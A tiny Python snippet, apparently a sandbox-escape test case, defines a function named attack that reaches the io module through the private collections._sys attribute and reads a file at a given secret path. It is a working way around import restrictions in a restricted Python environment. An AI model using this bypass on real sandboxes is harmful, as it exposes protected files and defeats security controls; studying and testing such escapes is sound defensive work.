# Reaches `sys` through the private names of a module that may be imported.
import collections


def attack(secret_path):
    return collections._sys.modules["io"].open(secret_path).read()
